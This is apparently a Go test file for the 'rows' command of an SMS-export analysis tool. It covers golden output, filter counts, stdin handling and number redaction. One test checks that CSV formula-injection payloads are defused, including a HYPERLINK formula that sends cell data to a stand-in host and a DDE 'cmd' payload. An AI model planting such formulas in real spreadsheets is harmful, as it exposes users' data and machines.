package cli

import (
	"bytes"
	"encoding/json"
	"os"
	"strings"
	"testing"

	"github.com/spoke-status/spoke-status/internal/synth"
)

// TestRowsGolden pins the CSV and JSON Lines output.
func TestRowsGolden(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name string
		args []string
	}{
		{"rows.statevoices-v10.csv", []string{repoFile("dialects", "statevoices-v10.csv")}},
		{"rows.statevoices-v10.jsonl", []string{"--format", "jsonl", repoFile("dialects", "statevoices-v10.csv")}},
		{"rows.rewired.errors.csv", []string{"--status", "ERROR", repoFile("dialects", "rewired.csv")}},
		{"rows.moveon-v5.redacted.csv", []string{"--redact", repoFile("dialects", "moveon-v5.csv")}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := run(t, nil, append([]string{"rows"}, tc.args...)...)
			if r.code != ExitOK || r.stderr != "" {
				t.Fatalf("exit %d, stderr:\n%s", r.code, r.stderr)
			}
			checkGolden(t, tc.name, r.stdout)
		})
	}
}

// rowsJSONL runs rows --format jsonl and decodes every line.
// rowJSON is the part of a rows JSON line that the tests read.
type rowJSON struct {
	PrimaryCode string  `json:"primary_code"`
	SendStatus  string  `json:"send_status"`
	Category    string  `json:"category"`
	Stuck       *bool   `json:"stuck"`
	AttemptedAt *string `json:"attempted_at"`
}

func rowsJSONL(t *testing.T, stdin []byte, args ...string) []rowJSON {
	t.Helper()
	var in *bytes.Reader
	if stdin != nil {
		in = bytes.NewReader(stdin)
	}
	var r result
	if in != nil {
		r = run(t, in, append([]string{"rows", "--format", "jsonl"}, args...)...)
	} else {
		r = run(t, nil, append([]string{"rows", "--format", "jsonl"}, args...)...)
	}
	if r.code != ExitOK {
		t.Fatalf("exit %d, stderr:\n%s", r.code, r.stderr)
	}
	var rows []rowJSON
	for _, line := range strings.Split(strings.TrimSuffix(r.stdout, "\n"), "\n") {
		if line == "" {
			continue
		}
		var row rowJSON
		if err := json.Unmarshal([]byte(line), &row); err != nil {
			t.Fatalf("invalid JSON line %q: %v", line, err)
		}
		rows = append(rows, row)
	}
	return rows
}

// TestRowsMatchGeneratorTruth counts filtered rows of generated exports
// against the figures the generator counted while writing.
func TestRowsMatchGeneratorTruth(t *testing.T) {
	t.Parallel()
	for _, dialect := range synth.Dialects() {
		t.Run(dialect, func(t *testing.T) {
			path, truth := writeSynthExport(t, synth.Options{Rows: 2000, Seed: 3, Dialect: dialect, Provider: synth.ProviderTwilio, Campaigns: 2})
			count := func(args ...string) int { return len(rowsJSONL(t, nil, append(args, path)...)) }
			checks := []struct {
				name      string
				got, want int
			}{
				{"inbound", count("--direction", "inbound"), truth.Inbound},
				{"outbound", count("--direction", "outbound"), truth.Outbound},
				{"all", count(), truth.Rows},
				{"errored", count("--status", "ERROR"), truth.Errored},
				{"delivered", count("--status", "DELIVERED", "--direction", "outbound"), truth.Delivered},
				{"stuck (as-of from a first pass)", count("--stuck"), truth.SentStuck},
				{"opt-out rejections", count("--category", "opted_out"), truth.OptOutRejections},
			}
			for id, ct := range truth.ByCampaign {
				checks = append(checks,
					struct {
						name      string
						got, want int
					}{"campaign " + id + " outbound", count("--campaign", id, "--direction", "outbound"), ct.Outbound},
					struct {
						name      string
						got, want int
					}{"campaign " + id + " errored", count("--campaign", id, "--status", "error"), ct.Errored})
			}
			// Primary codes of the ERROR rows, and --code on the most frequent one.
			codes := map[string]int{}
			for _, row := range rowsJSONL(t, nil, "--status", "ERROR", path) {
				codes[row.PrimaryCode]++
			}
			top := ""
			for code, n := range truth.ErrorCodes {
				checks = append(checks, struct {
					name      string
					got, want int
				}{"code " + code, codes[code], n})
				if code != "" && !strings.HasPrefix(code, "-") && (top == "" || n > truth.ErrorCodes[top]) {
					top = code // negative codes also sit on SENDING rows
				}
			}
			if top != "" {
				checks = append(checks, struct {
					name      string
					got, want int
				}{"--code " + top, count("--code", top), truth.ErrorCodes[top]})
			}
			for _, c := range checks {
				if c.got != c.want {
					t.Errorf("%s: %d rows, truth %d", c.name, c.got, c.want)
				}
			}
			if truth.SentStuck == 0 || truth.OptOutRejections == 0 && dialect != synth.DialectMoveOnLegacy {
				t.Errorf("the generated export lacks stuck rows or rejections: %+v", truth)
			}
			// Standard input with the as-of given finds the same stuck rows.
			data, err := os.ReadFile(path)
			if err != nil {
				t.Fatal(err)
			}
			if got := len(rowsJSONL(t, data, "--stuck", "--as-of", truth.AsOf, "-")); got != truth.SentStuck {
				t.Errorf("stuck from stdin with --as-of: %d, truth %d", got, truth.SentStuck)
			}
		})
	}
}

// TestRowsStdinWithoutAsOf: standard input is read once, so the stuck
// column is left empty (with a warning) and --stuck is refused.
func TestRowsStdinWithoutAsOf(t *testing.T) {
	t.Parallel()
	data, err := os.ReadFile(repoFile("dialects", "statevoices-v10.csv"))
	if err != nil {
		t.Fatal(err)
	}
	r := run(t, bytes.NewReader(data), "rows", "--status", "SENT", "-")
	if r.code != ExitOK || !strings.Contains(r.stderr, "stuck column of 2 SENT rows is empty") {
		t.Errorf("exit %d, stderr %q", r.code, r.stderr)
	}
	rows := parseCSV(t, r.stdout)
	if len(rows) != 2 || rows[0]["stuck"] != "" || rows[1]["stuck"] != "" {
		t.Errorf("rows = %v, want two with an empty stuck column", rows)
	}
	r = run(t, bytes.NewReader(data), "rows", "--stuck", "-")
	if r.code != ExitUsage || r.stdout != "" || !strings.Contains(r.stderr, "--as-of") {
		t.Errorf("--stuck from stdin: exit %d, stdout %q, stderr %q", r.code, r.stdout, r.stderr)
	}
	// A file is read twice: the stuck column is filled as summarize does.
	rows = parseCSV(t, run(t, nil, "rows", "--status", "SENT", repoFile("dialects", "statevoices-v10.csv")).stdout)
	if len(rows) != 2 || rows[0]["stuck"] != "true" || rows[1]["stuck"] != "false" {
		t.Errorf("rows from a file = %v, want stuck true then false", rows)
	}
}

// TestCraftedExportRows runs a crafted export through rows.
func TestCraftedExportRows(t *testing.T) {
	t.Parallel()
	path := writeCrafted(t)
	r := run(t, nil, "rows", path)
	if r.code != ExitOK {
		t.Fatalf("exit %d, stderr:\n%s", r.code, r.stderr)
	}
	rows := parseCSV(t, r.stdout)
	assertSafe(t, r.stdout, rows)
	first := rows[0]
	wantCells := map[string]string{
		"contact_number":    `'=HYPERLINK("http://evil.example/"&A1)`,
		"text":              `'=cmd|'/c calc'!A1`,
		"campaign_id":       "'=1+2",
		"texter_first_name": "'@SUM(A1)",
		"texter_last_name":  "'-2+3",           // not a plain number: quoted
		"texter_email":      "+1 555 555 0199", // a phone number: kept
		"texter_cell":       "'+cmd",
		"primary_code":      "30003",
	}
	for col, want := range wantCells {
		if first[col] != want {
			t.Errorf("%s = %q, want %q", col, first[col], want)
		}
	}
	if got := rows[1]["text"]; got != "\uFFFDSTOP\uFFFD" {
		t.Errorf("escape sequences in text: %q", got)
	}
	if got := rows[1]["primary_code"]; got != "-133" {
		t.Errorf("code -133 = %q, want it kept as a number", got)
	}
	if got := rows[2]["text"]; got != "line one\nOVERWRITE\uFFFD" {
		t.Errorf("bare CR and 8-bit CSI in text: %q", got)
	}
	if got := rows[2]["error_codes"]; got != "'=2+5" {
		t.Errorf("formula in the code cell: %q", got)
	}
	r = run(t, nil, "rows", "--format", "jsonl", path)
	assertSafe(t, r.stdout, nil)
	if !strings.Contains(r.stdout, `"text":"=cmd|'/c calc'!A1"`) {
		t.Errorf("JSON Lines must keep text as written (no spreadsheet quote):\n%s", r.stdout)
	}
}

// TestRowsRedact masks contact and texter numbers, not sending numbers.
func TestRowsRedact(t *testing.T) {
	t.Parallel()
	for _, format := range []string{"csv", "jsonl"} {
		r := run(t, nil, "rows", "--redact", "--format", format, repoFile("dialects", "rewired.csv"))
		if r.code != ExitOK {
			t.Fatalf("exit %d: %s", r.code, r.stderr)
		}
		for _, number := range []string{"+15555550123", "+15555550199"} {
			if strings.Contains(r.stdout, number) {
				t.Errorf("%s: %s not masked", format, number)
			}
		}
		if !strings.Contains(r.stdout, "+1555•••0123") || !strings.Contains(r.stdout, "+15555550100") {
			t.Errorf("%s: want the contact masked and the sending number kept:\n%s", format, r.stdout)
		}
	}
}
